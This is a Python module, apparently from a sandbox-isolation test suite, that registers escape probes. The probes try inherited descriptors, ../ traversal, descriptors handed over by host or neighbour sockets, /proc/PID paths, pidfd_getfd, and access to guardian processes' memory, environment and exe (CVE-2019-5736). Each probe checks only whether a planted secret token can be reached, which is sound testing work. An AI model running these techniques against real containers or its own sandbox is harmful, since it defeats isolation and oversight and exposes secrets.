"""Descriptors of the host: left open, handed over, or taken."""

from __future__ import annotations

import array
import os
import socket
import stat
from collections.abc import Iterator

from attacks.table import PARENT, Actor, Facts, add, attack, call

_OWN = ("self", "thread-self")


def _through(directory: int, facts: Facts) -> str | None:
    """Whether the secret can be reached from a directory."""
    for way in ("", "../" * 64):
        try:
            fd = os.open(way + facts.secret.lstrip("/"), os.O_RDONLY, dir_fd=directory)
        except OSError:
            continue
        with open(fd, "rb") as file:
            if facts.host.token.encode() in file.read(4096):
                return "the secret, relative to a descriptor"
    return None


def _open_here() -> Iterator[int]:
    listing = os.listdir("/proc/self/fd")
    for name in listing:
        try:
            os.fstat(int(name))
        except OSError:
            continue  # the one that was listed
        yield int(name)


@attack()
def inherited_directory(facts: Facts) -> str | None:
    """A directory that the caller had open without O_CLOEXEC leads out."""
    for fd in _open_here():
        if stat.S_ISDIR(os.fstat(fd).st_mode):
            got = _through(fd, facts)
            if got:
                return f"descriptor {fd}: {got}"
    return None


@attack()
def inherited_file(facts: Facts) -> str | None:
    """A file that the caller had open is read."""
    for fd in _open_here():
        regular = stat.S_ISREG(os.fstat(fd).st_mode) and fd > 2
        if regular and facts.host.token.encode() in os.pread(fd, 4096, 0):
            return f"descriptor {fd}"
    return None


def _handed_over(address: str, facts: Facts) -> str | None:
    with socket.socket(socket.AF_UNIX) as client:
        client.settimeout(5)
        client.connect(address)
        _, messages, _, _ = client.recvmsg(1, socket.CMSG_SPACE(4))
    received = array.array("i")
    for _, _, content in messages:
        received.frombytes(content[:4])
    # Where the server is inside as well, its root is not the host's.
    return _through(received[0], facts) or "a descriptor of the server"


@attack()
def socket_in_a_directory_of_the_host(facts: Facts) -> str | None:
    """A service's socket (of a container engine, say) is there, and does what it is asked."""
    return _handed_over(facts.host.socket, facts)


@attack()
def abstract_socket_of_the_host(facts: Facts) -> str | None:
    """A service with an abstract socket hands over a descriptor of the host's root."""
    return _handed_over("\0" + facts.host.socket, facts)


@attack()
def abstract_socket_of_a_neighbour(facts: Facts) -> str | None:
    """A service in another sandbox is reached."""
    return _handed_over("\0" + facts.neighbour.socket, facts)


def _of_process(actor: Actor) -> str | None:
    with open(f"/proc/{actor.pid}/fd/{actor.descriptor}", "rb") as file:
        return "read" if actor.token.encode() in file.read(4096) else None


def _taken(actor: Actor) -> str | None:
    handle = os.pidfd_open(actor.pid)
    fd = call("pidfd_getfd", handle, actor.descriptor, 0)
    return "taken" if actor.token.encode() in os.pread(fd, 4096, 0) else None


def _root_of(actor: Actor) -> str | None:
    path = f"/proc/{actor.pid}/root/tmp/{actor.token}"
    with open(path, "rb") as file:
        return path if actor.token.encode() in file.read(4096) else None


def _directory_of(actor: Actor) -> str | None:
    path = f"/proc/{actor.pid}/cwd/{'../' * 64}tmp/{actor.token}"
    with open(path, "rb") as file:
        return path if actor.token.encode() in file.read(4096) else None


for _whose in ("host", "neighbour"):
    _of = "the_host" if _whose == "host" else "a_neighbour"
    for _name, _try, _gain in (
        ("open_file_of", _of_process, "/proc/PID/fd of another process is opened"),
        ("descriptor_taken_from", _taken, "pidfd_getfd copies a descriptor"),
        ("root_of_a_process_of", _root_of, "/proc/PID/root leads to another root"),
        ("directory_of_a_process_of", _directory_of, "/proc/PID/cwd leads to another root"),
    ):
        add(
            f"{_name}_{_of}",
            lambda facts, whose=_whose, attempt=_try: attempt(getattr(facts, whose)),
            gain=_gain,
        )


def guardian_pids(facts: Facts) -> list[int]:
    """Processes that keep this one in."""
    return [PARENT if pid == -1 else pid for pid in facts.guardians]


def _any_guardian(facts: Facts, name: str) -> str | None:
    refusal: OSError | None = None
    for pid in guardian_pids(facts):
        try:
            path = f"/proc/{pid}/{name}"
            if name == "fd":
                for number in os.listdir(path):
                    return os.readlink(f"{path}/{number}")
            elif name == "exe":
                # What runc was overwritten through: the file that runs outside, opened from inside.
                # Only asked, for a running program is ETXTBSY, with or without the right.
                if os.access(path, os.W_OK):
                    return path
            elif name in ("root", "cwd"):
                # Some entry, so that it has been followed.
                return f"{path}: {os.listdir(path)[:1]}"
            else:
                os.close(os.open(path, os.O_RDWR if name == "mem" else os.O_RDONLY))
                with open(path, "rb") as file:
                    if name == "mem" or file.read(1):
                        return path
        except OSError as error:
            refusal = error
    if refusal is not None:
        raise refusal
    return None


for _name, _gain, _by in (
    ("fd", "the descriptors of PID 1 or a monitor are listed", "anybody"),
    ("exe", "the program of PID 1 or a monitor can be written (CVE-2019-5736)", "root"),
    ("root", "the root of PID 1 or a monitor is followed", "anybody"),
    ("cwd", "the directory of PID 1 or a monitor is followed", "anybody"),
    ("mem", "the memory of PID 1 or a monitor is opened", "anybody"),
    ("environ", "the environment of PID 1 or a monitor is read", "anybody"),
    ("maps", "the addresses of PID 1 or a monitor are read", "anybody"),
):
    add(
        f"guardians_{_name}",
        lambda facts, name=_name: _any_guardian(facts, name),
        gain=_gain,
        by=_by,
    )
